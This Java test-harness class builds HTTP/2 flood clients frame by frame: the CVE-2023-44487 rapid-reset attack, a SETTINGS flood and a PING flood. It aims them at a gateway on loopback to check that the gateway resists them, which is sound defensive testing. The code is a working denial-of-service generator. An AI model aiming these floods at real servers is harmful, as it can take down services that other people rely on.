package dev.protocollab.e2e.chaos;

import dev.protocollab.testsupport.Http2Frames;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.time.Duration;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;

/**
 * Abusive HTTP/2 clients written frame by frame over cleartext (h2c, prior knowledge), since no client
 * library will misbehave on purpose: the rapid-reset pattern of CVE-2023-44487 (HEADERS then RST_STREAM at
 * once, stream after stream), a SETTINGS flood and a PING flood, the last two without reading the
 * acknowledgements the server owes. Each attacker reconnects whenever the server closes on it or refuses it,
 * and counts. The flood comes from its own loopback source address (Linux routes all of 127.0.0.0/8 to lo),
 * so a gateway that limits per client address can tell it from the victim on 127.0.0.1.
 */
final class Http2Flood implements AutoCloseable {

    enum Kind {
        RAPID_RESET,
        SETTINGS_FLOOD,
        PING_FLOOD
    }

    private final String source;
    private final int port;
    private final String path;
    private final ExecutorService attackers = Executors.newVirtualThreadPerTaskExecutor();
    private volatile boolean running = true;
    final AtomicLong frames = new AtomicLong();
    final AtomicLong connections = new AtomicLong();
    final AtomicLong closedByServer = new AtomicLong();

    Http2Flood(String source, int port, String path) {
        this.source = source;
        this.port = port;
        this.path = path;
    }

    /**
     * {@code connectionsInParallel} connections, each sending a batch of 50 abusive frames (rapid reset: 50
     * streams opened and cancelled) every {@code period}, and reconnecting at most once a {@code period}.
     * Paced, so the attacker does not simply take the shared machine's CPU away from everyone, which would
     * measure the machine, not the gateway.
     */
    Http2Flood start(Kind kind, int connectionsInParallel, Duration period) {
        for (int i = 0; i < connectionsInParallel; i++) {
            attackers.execute(() -> {
                long next = System.nanoTime();
                while (running) {
                    attackOnce(kind, period);
                    next += period.toNanos();
                    LockSupport.parkNanos(next - System.nanoTime()); // pacing reconnects, as the frames
                }
            });
        }
        return this;
    }

    private void attackOnce(Kind kind, Duration period) {
        try (Socket socket = new Socket()) {
            socket.bind(new InetSocketAddress(source, 0));
            socket.connect(new InetSocketAddress("127.0.0.1", port), 2_000);
            connections.incrementAndGet();
            OutputStream out = socket.getOutputStream();
            if (kind == Kind.RAPID_RESET) {
                // read and discard what the server sends, so only the resets are the load
                InputStream in = socket.getInputStream();
                attackers.execute(() -> drain(in));
            }
            out.write(Http2Frames.PREFACE);
            out.write(Http2Frames.frame(Http2Frames.SETTINGS, 0, 0, new byte[0])); // SETTINGS
            int stream = 1;
            long next = System.nanoTime();
            while (running) {
                next += period.toNanos();
                LockSupport.parkNanos(next - System.nanoTime()); // pacing the attacker, not waiting for a result
                ByteArrayOutputStream batch = new ByteArrayOutputStream();
                for (int i = 0; i < 50; i++) {
                    switch (kind) {
                        case RAPID_RESET -> {
                            batch.writeBytes(Http2Frames.frame(
                                    Http2Frames.HEADERS,
                                    Http2Frames.END_STREAM_AND_HEADERS,
                                    stream,
                                    Http2Frames.getRequest(path, "127.0.0.1:" + port)));
                            batch.writeBytes(Http2Frames.frame(
                                    Http2Frames.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8})); // CANCEL
                            stream += 2;
                        }
                        case SETTINGS_FLOOD ->
                            batch.writeBytes(Http2Frames.frame(
                                    Http2Frames.SETTINGS, 0, 0, new byte[] {0, 3, 0, 0, 0, 100})); // MAX_CONCURRENT
                        case PING_FLOOD -> batch.writeBytes(Http2Frames.frame(Http2Frames.PING, 0, 0, new byte[8]));
                    }
                }
                out.write(batch.toByteArray());
                frames.addAndGet(kind == Kind.RAPID_RESET ? 100 : 50);
            }
        } catch (IOException e) {
            closedByServer.incrementAndGet();
        }
    }

    private static void drain(InputStream in) {
        byte[] buffer = new byte[16 * 1024];
        try {
            while (in.read(buffer) >= 0) {
                // discard
            }
        } catch (IOException e) {
            // closed
        }
    }

    /** GET {@code path} on this host: HPACK static-table entries and literals without Huffman coding. */
    @Override
    public void close() {
        running = false;
        attackers.shutdownNow();
    }
}
